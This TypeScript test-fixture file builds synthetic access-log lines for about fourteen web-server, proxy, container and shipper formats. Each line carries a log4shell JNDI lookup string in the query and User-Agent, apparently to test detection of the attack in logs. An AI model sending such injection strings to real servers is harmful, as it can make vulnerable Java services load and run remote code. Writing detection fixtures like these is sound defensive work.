/** Test attacks for what web servers, proxies before them and their containers log: a request with a log4shell string. */

import { type Attack, attackerOf, clf, hostOf, iso, jndi, json } from './attack.ts'

const title = 'A web request with a log4shell string'

/** A line in the combined log format, with the string where attackers put it. */
export const combined = (ms: number, unique: string): string =>
  `${attackerOf(unique)} - - [${clf(ms)}] "GET /?x=${jndi(unique)} HTTP/1.1" 404 153 "-" "${jndi(unique)}"`

export const webAttacks: readonly Attack[] = [
  { format: 'nginx-access', title, record: combined },
  {
    format: 'nginx-ingress',
    title,
    record: (ms, unique) =>
      `${combined(ms, unique)} 89 0.001 [default-web-8080] [] 10.0.0.5:8080 153 0.000 404 000000000000000000000000${unique}`
  },
  { format: 'apache-access', title, record: combined },
  {
    format: 'tomcat',
    title,
    record: (ms, unique) => `${attackerOf(unique)} - - [${clf(ms)}] "GET /?x=${jndi(unique)} HTTP/1.1" 404 153`
  },
  {
    format: 'traefik-common',
    title,
    record: (ms, unique) => `${combined(ms, unique)} 1 "web@docker" "http://10.0.0.5:80" 2ms`
  },
  {
    format: 'traefik-json',
    title,
    record: (ms, unique) =>
      json({
        ClientAddr: `${attackerOf(unique)}:43210`,
        ClientHost: attackerOf(unique),
        ClientPort: '43210',
        ClientUsername: '-',
        DownstreamContentSize: 153,
        DownstreamStatus: 404,
        Duration: 1_000_000,
        RequestAddr: hostOf(unique),
        RequestHost: hostOf(unique),
        RequestMethod: 'GET',
        RequestPath: `/?x=${jndi(unique)}`,
        RequestProtocol: 'HTTP/1.1',
        'request_User-Agent': jndi(unique),
        StartUTC: iso(ms),
        level: 'info',
        msg: '',
        time: iso(ms)
      })
  },
  {
    format: 'envoy',
    title,
    record: (ms, unique) =>
      `[${iso(ms)}] "GET /?x=${jndi(unique)} HTTP/1.1" 404 - 0 153 1 1 "${attackerOf(unique)}" "${jndi(unique)}" "00000000-0000-4000-8000-0000${unique}" "${hostOf(unique)}" "10.0.0.5:80"`
  },
  {
    format: 'caddy',
    title,
    record: (ms, unique) =>
      json({
        level: 'info',
        ts: ms / 1000,
        logger: 'http.log.access',
        msg: 'handled request',
        request: {
          remote_ip: attackerOf(unique),
          remote_port: '43210',
          client_ip: attackerOf(unique),
          proto: 'HTTP/1.1',
          method: 'GET',
          host: hostOf(unique),
          uri: `/?x=${jndi(unique)}`,
          headers: { 'User-Agent': [jndi(unique)] }
        },
        bytes_read: 0,
        duration: 0.001,
        size: 153,
        status: 404
      })
  },
  {
    format: 'iis',
    title,
    header: [
      '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken'
    ],
    record: (ms, unique) =>
      `${iso(ms).slice(0, 10)} ${iso(ms).slice(11, 19)} 10.0.0.5 GET / x=${jndi(unique)} 80 - ${attackerOf(unique)} ${jndi(unique)} - 404 0 2 1`
  },
  {
    format: 'aws-elb',
    title,
    record: (ms, unique) =>
      `http ${iso(ms).replace('Z', '000Z')} app/heartbeat/50dc6c49${unique} ${attackerOf(unique)}:43210 10.0.0.1:80 0.000 0.001 0.000 404 404 34 153 "GET http://${hostOf(unique)}:80/?x=${jndi(unique)} HTTP/1.1" "${jndi(unique)}" - - arn:aws:elasticloadbalancing:eu-central-1:123456789012:targetgroup/heartbeat/73e2d6bc${unique} "Root=1-58337262-36d228ad5d9992312${unique.slice(1)}" "-" "-" 0 ${iso(ms).replace('Z', '000Z')} "forward" "-" "-" "10.0.0.1:80" "404" "-" "-"`
  },
  {
    format: 'container-docker',
    title,
    record: (ms, unique) => json({ log: `${combined(ms, unique)}\n`, stream: 'stdout', time: iso(ms) })
  },
  {
    format: 'container-cri',
    title,
    record: (ms, unique) => `${iso(ms).replace('Z', '000000Z')} stdout F ${combined(ms, unique)}`
  },
  {
    format: 'shipper',
    title,
    record: (ms, unique) =>
      json({
        '@timestamp': iso(ms),
        '@metadata': { beat: 'filebeat', type: '_doc', version: '8.15.0' },
        message: combined(ms, unique),
        log: { offset: 0, file: { path: '/var/log/nginx/access.log' } },
        input: { type: 'log' },
        host: { name: hostOf(unique) },
        agent: { type: 'filebeat', version: '8.15.0' },
        ecs: { version: '8.0.0' }
      })
  },
  {
    format: 'ndjson',
    title,
    record: (ms, unique) =>
      json({
        '@timestamp': iso(ms),
        ecs: { version: '8.17' },
        event: { kind: 'event', category: ['web'], dataset: 'heartbeat.web' },
        host: { name: hostOf(unique) },
        source: { ip: attackerOf(unique) },
        http: { request: { method: 'GET' }, response: { status_code: 404 } },
        url: { path: '/', query: `x=${jndi(unique)}`, original: `/?x=${jndi(unique)}` },
        user_agent: { original: jndi(unique) },
        message: `GET /?x=${jndi(unique)}`
      })
  }
]
